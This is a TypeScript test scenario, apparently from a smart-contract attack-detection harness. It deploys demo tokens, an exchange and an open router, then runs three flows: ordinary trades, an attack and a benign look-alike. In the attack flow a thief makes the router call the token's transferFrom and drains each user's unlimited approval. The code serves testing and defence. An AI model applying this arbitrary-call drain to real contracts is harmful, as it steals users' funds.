import { encodeFunctionData, type Hex, maxUint256 } from 'viem'
import { readArtifact } from '../../artifact.ts'
import { dollars } from '../acmeVault.ts'
import type { Scenario } from '../scenario.ts'

export const borrowedAllowances: Scenario = {
  name: 'borrowed-allowances',
  theme: 'attack',
  attack:
    'A router calls whatever exchange its caller names: a thief names the dollar itself, and takes what users allow the router.',
  twin: 'A large customer sells nearly all of theirs through the router, and many users sell at the same time.',

  async build({ deploy, call, accounts, mine }) {
    const [deployer, customer] = [accounts[0]!, accounts[12]!]
    const [users, thief] = [accounts.slice(2, 8), accounts[20]!]
    const dollar = await deploy(readArtifact('DemoDollar'), { args: [deployer] })
    const other = await deploy(readArtifact('DemoDollar'), { args: [deployer] })
    const exchange = await deploy(readArtifact('FixedExchange'), { args: [dollar.address, other.address] })
    const router = await deploy(readArtifact('OpenRouter'))
    await call(other, 'mint', [exchange.address, dollars('9000000')])
    for (const user of [...users, customer]) {
      await call(dollar, 'mint', [user, dollars('300000')])
      await call(dollar, 'approve', [router.address, maxUint256], { from: user })
    }
    const sell = (user: Hex, amount: string) => {
      const args = [dollars(amount), user]
      const order = encodeFunctionData({ abi: exchange.abi, functionName: 'change', args })
      return call(router, 'sell', [dollar.address, dollars(amount), exchange.address, order], { from: user })
    }
    return {
      protect: [router.address],
      victims: [router.address],
      async ordinary() {
        for (const user of users) {
          await sell(user, '700')
          await mine(3)
          await sell(user, '120')
        }
      },
      async attack() {
        for (const user of users) {
          const args = [user, thief, dollars('250000')]
          const order = encodeFunctionData({ abi: dollar.abi, functionName: 'transferFrom', args })
          await call(router, 'sell', [dollar.address, 0n, dollar.address, order], { from: thief })
        }
      },
      async twin() {
        await sell(customer, '290000')
        for (const user of users) await sell(user, '100000')
      },
    }
  },
}
